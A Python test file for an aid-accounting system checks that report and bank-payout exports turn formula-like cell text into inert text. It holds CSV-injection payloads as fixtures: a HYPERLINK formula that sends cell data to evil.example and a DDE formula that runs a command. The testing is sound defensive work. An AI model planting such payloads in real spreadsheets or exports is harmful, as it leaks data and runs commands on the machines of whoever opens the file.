"""Exports never hand a spreadsheet program a formula (CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from aid_accounting.payouts.batches import approve_batch, draft_batch, export_bank_csv
from aid_accounting.payouts.models import PayoutBatch
from aid_accounting.transparency.report_export import to_csv, to_xlsx
from aid_accounting.transparency.reports import Column, Report
from core.spreadsheet import inert, xlsx_bytes
from tests.aid_accounting.payouts.test_batches import distributed  # noqa: F401 (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
SHORT_HOSTILE = '=cmd|" /c calc"!A1'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_text_that_would_start_a_formula_is_made_text(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.50", "3980", "-7", 3980, -12, "姜庄村", "", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert inert(value) == value


def report_with_a_hostile_name() -> Report:
    return Report(
        title="帮扶户",
        columns=[Column("户主"), Column("金额（元）", money=True)],
        rows=[[HOSTILE, -1250]],
    )


def test_a_report_csv_keeps_the_name_as_text_and_the_refund_as_a_number():
    rows = list(csv.reader(io.StringIO(to_csv(report_with_a_hostile_name()).decode("utf-8-sig"))))

    assert rows[1] == ["'" + HOSTILE, "-12.50"]


def test_a_report_xlsx_holds_no_formula():
    sheet = load_workbook(io.BytesIO(to_xlsx(report_with_a_hostile_name()))).active

    assert sheet["A2"].data_type == "s"
    assert not str(sheet["A2"].value).startswith("=")


@pytest.mark.django_db
def test_a_household_named_like_a_formula_is_text_in_the_bank_file(
    distributed,  # noqa: F811
    aid_officer,
    second_officer,
):
    household = distributed[0]
    household.head_name = SHORT_HOSTILE  # a name field holds 32 characters
    household.save()
    batch = draft_batch(kind=PayoutBatch.Kind.HOUSEHOLD, actor=aid_officer)
    approve_batch(batch=batch, actor=second_officer)

    text = export_bank_csv(batch=batch, actor=aid_officer)

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + SHORT_HOSTILE in cells
    assert not any(cell.startswith("=") for cell in cells)


def test_control_characters_typed_into_a_form_do_not_break_a_workbook():
    content = xlsx_bytes(title="记录", header=["用途"], rows=[["核\x1b对\x00名单"], ["=1+1\x07"]])

    sheet = load_workbook(io.BytesIO(content)).active

    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "核对名单",
        "'=1+1",
    ]
